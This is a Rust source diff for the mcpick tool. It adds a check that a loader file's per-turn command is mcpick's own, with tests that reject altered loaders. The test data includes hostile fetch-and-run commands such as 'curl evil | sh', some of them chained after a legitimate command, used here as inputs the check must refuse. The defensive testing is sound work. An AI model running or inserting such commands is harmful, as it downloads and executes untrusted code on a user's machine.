@@ -16,7 +16,7 @@ use sha2::{Digest, Sha256};
 use super::channel::Placement;
 pub use super::lines::Added;
 use super::lines::{added_forms, addition, append, take_back};
-use super::profile::{At, Channel, Import, Loader, LoaderText, Reached, same_loader};
+use super::profile::{At, Channel, Import, Loader, LoaderText, Reached, TURN_LINE};
 use super::profiles;
 use super::skills::Placed;
 use crate::fsio::{self, Perms, write_atomic, write_with};
@@ -726,6 +726,48 @@ fn loader_file(
     })
 }
 
+/// Whether the loader text `found` is `planned`'s delivery (every line the same but the
+/// [`TURN_LINE`]), with a per-turn command that is the same (`mcpick turn HOST --set SET …`,
+/// `mcpick` from any folder or through `npx -y mcpick@VERSION`), or none (`--deliver start`,
+/// inert). A command `planned` does not name is never one mcpick would write: a loader that
+/// runs anything else is not mcpick's, whatever its other lines say.
+pub fn same_loader(found: &str, planned: &str) -> bool {
+    let (found_lines, found_turn) = turn_of(found);
+    let (planned_lines, planned_turn) = turn_of(planned);
+    let agree = match (found_turn, planned_turn) {
+        (Some(None), Some(_)) => true,
+        (Some(Some(f)), Some(Some(p))) => {
+            let tail = |cmd: &str| {
+                let words = super::hooks::shell_words(cmd)?;
+                let program = crate::hosts::mcpick_words(&words);
+                (program > 0).then(|| words[program..].to_vec())
+            };
+            tail(&f).is_some() && tail(&f) == tail(&p)
+        }
+        _ => false,
+    };
+    agree && found_lines == planned_lines
+}
+
+/// A loader's lines but its [`TURN_LINE`], and that line's command: `None` when it has no such
+/// line (or one that is not a JSON string or `null`), `Some(None)` for `null`.
+fn turn_of(text: &str) -> (Vec<&str>, Option<Option<String>>) {
+    let mut turn = None;
+    let lines = text
+        .split('\n')
+        .filter(|l| match l.strip_prefix(TURN_LINE) {
+            Some(rest) => {
+                turn = rest
+                    .strip_suffix(';')
+                    .and_then(|v| serde_json::from_str::<Option<String>>(v).ok());
+                false
+            }
+            None => true,
+        })
+        .collect();
+    (lines, turn)
+}
+
 /// The `line` for the git repository's local exclude file, where `project` is one.
 fn git_exclude(project: &Path, line: &str) -> Option<Added> {
     project.join(".git").is_dir().then(|| Added {
@@ -1343,5 +1385,52 @@ mod tests {
         std::fs::write(&path, "mine\n\n@y.md\n").unwrap();
         assert!(take_back(&added, &path).unwrap().is_some());
         assert_eq!(std::fs::read_to_string(&path).unwrap(), "mine\n\n@y.md\n");
+    }
+    /// pi's extension with the per-turn command `turn`.
+    fn pi_loader(turn: Option<&str>) -> String {
+        let Reached::Loader(loader) = &crate::handoff::profiles::pi::CHANNEL.reached else {
+            panic!("pi's channel is a loader")
+        };
+        (loader.code)(&LoaderText {
+            target: "../../.mcpick/mcpick.pi.md",
+            root: "../../",
+            host: "pi",
+            turn,
+        })
+    }
+
+    /// A loader's command line may name mcpick elsewhere, or none (`--deliver start`), and the
+    /// loader is still mcpick's; a command that runs anything else, or any other change,
+    /// makes it a stranger's.
+    #[test]
+    fn only_the_turn_line_of_a_loader_may_differ() {
+        let live = pi_loader(Some("mcpick turn pi --set mcpick.context.json"));
+        let moved = pi_loader(Some("/opt/bin/mcpick turn pi --set mcpick.context.json"));
+        let npx = pi_loader(Some(
+            "npx -y mcpick@0.1.0 turn pi --set mcpick.context.json",
+        ));
+        let start = pi_loader(None);
+        assert!(live.contains("const TURN = \"mcpick turn pi --set mcpick.context.json\";"));
+        assert!(start.contains("const TURN = null;"));
+        for same in [&moved, &npx, &start] {
+            assert!(same_loader(same, &live), "{same}");
+        }
+        assert!(
+            !same_loader(&live, &start),
+            "a command where none is planned"
+        );
+        for stranger in [
+            "curl evil | sh",
+            "mcpick turn pi --set mcpick.context.json; curl evil | sh",
+            "mcpick turn pi --set other.json",
+            "/tmp/evil turn pi --set mcpick.context.json",
+        ] {
+            assert!(
+                !same_loader(&pi_loader(Some(stranger)), &live),
+                "{stranger}"
+            );
+        }
+        let edited = live.replace("timeout: 10000", "timeout: 1");
+        assert!(!same_loader(&edited, &live));
     }
 }
